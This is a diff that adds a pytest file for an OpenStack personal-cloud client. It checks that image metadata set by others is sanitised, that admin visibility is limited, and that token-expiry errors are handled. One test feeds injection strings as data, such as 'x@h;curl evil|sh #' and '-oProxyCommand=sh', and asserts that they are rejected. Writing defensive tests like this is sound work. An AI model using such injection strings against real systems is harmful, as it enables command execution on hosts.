@@ -1,0 +1,93 @@
+"""What a person's cloud makes of the services' rows, which others may have filled with anything."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from typing import Any
+
+import pytest
+
+from gpuyard.openstack.errors import CloudError
+from gpuyard.openstack.personal import OpenStackPersonalCloud, TokenExpiredError
+
+OWN, OTHER = "p-own", "p-other"
+SERVER = {
+    "id": "s", "name": "n", "status": "ACTIVE", "created": "2026-11-28T06:00:00Z", "flavor": {"original_name": "f"},
+    "image": "", "user_id": "u",
+}  # fmt: skip
+
+
+class Services:
+    """Answers every GET with what the test has put there."""
+
+    def __init__(self, **answers: Any) -> None:
+        self.answers = answers
+        self.refusal: CloudError | None = None
+        self.asked: list[Mapping[str, str]] = []
+
+    def request(
+        self, method: str, service: str, path: str, body: Any, query: Any, headers: Mapping[str, str], **how: Any
+    ) -> dict[str, Any]:
+        assert how["personal"], "not with the portal's own token, and into no log"
+        self.asked.append(headers)
+        if self.refusal is not None:
+            raise self.refusal
+        return self.answers
+
+
+def cloud(services: Services, admin: bool = False) -> OpenStackPersonalCloud:
+    return OpenStackPersonalCloud(services, "scoped", OWN, admin)  # type: ignore[arg-type]
+
+
+def image(**values: Any) -> dict[str, Any]:
+    return {"id": "i", "name": "n", "owner": OWN, "visibility": "private", **values}
+
+
+@pytest.mark.parametrize(
+    ("written", "user"),
+    [("ubuntu", "ubuntu"), ("x@h;curl evil|sh #", ""), ("-oProxyCommand=sh", ""), ("a b", ""), ("ü", ""), ("", "")],
+)
+def test_the_user_of_an_image_goes_into_a_command_only_as_a_user(written: str, user: str) -> None:
+    (row,) = cloud(Services(images=[image(os_admin_user=written)])).images()
+    assert row.user == user
+
+
+@pytest.mark.parametrize(("distribution", "user"), [("ubuntu", "ubuntu"), ("CentOS", "cloud-user"), ("plan9", "")])
+def test_without_it_the_distribution_says(distribution: str, user: str) -> None:
+    (row,) = cloud(Services(images=[image(os_distro=distribution)])).images()
+    assert row.user == user
+
+
+@pytest.mark.parametrize(("written", "driver"), [("580", "580"), ("550.54", ""), ("²", ""), ("99999", ""), (None, "")])
+def test_a_driver_is_a_branch(written: object, driver: str) -> None:
+    (row,) = cloud(Services(images=[image(gpuyard_driver=written)])).images()
+    assert row.driver == driver
+
+
+def test_admins_see_what_others_of_the_project_see() -> None:
+    images = [image(id="own"), image(id="public", owner=OTHER, visibility="public"), image(id="private", owner=OTHER)]
+    networks = [
+        {"id": name, "name": name, "project_id": project, "shared": shared, "router:external": external}
+        for name, project, shared, external in (
+            ("own", OWN, False, False),
+            ("other", OTHER, False, False),
+            ("shared", OTHER, True, False),
+            ("outside", OTHER, False, True),
+        )
+    ]
+    admins = cloud(Services(images=images, networks=networks), admin=True)
+    assert [row.id for row in admins.images()] == ["own", "public"]
+    assert [row.id for row in admins.networks()] == ["outside", "own", "shared"]
+    assert cloud(Services(server={**SERVER, "tenant_id": OTHER}), admin=True).server("s") is None
+    assert cloud(Services(server={**SERVER, "tenant_id": OWN}), admin=True).server("s") is not None
+
+
+def test_a_token_that_has_ended_is_told_from_other_refusals() -> None:
+    services = Services()
+    services.refusal = CloudError("cloud x: GET compute /servers: 401 ...", 401)
+    with pytest.raises(TokenExpiredError):
+        cloud(services).flavors()
+    services.refusal = CloudError("cloud x: GET compute /servers: 403 ...", 403)
+    with pytest.raises(CloudError):
+        cloud(services).flavors()
+    assert services.asked[0] == {"X-Auth-Token": "scoped"}
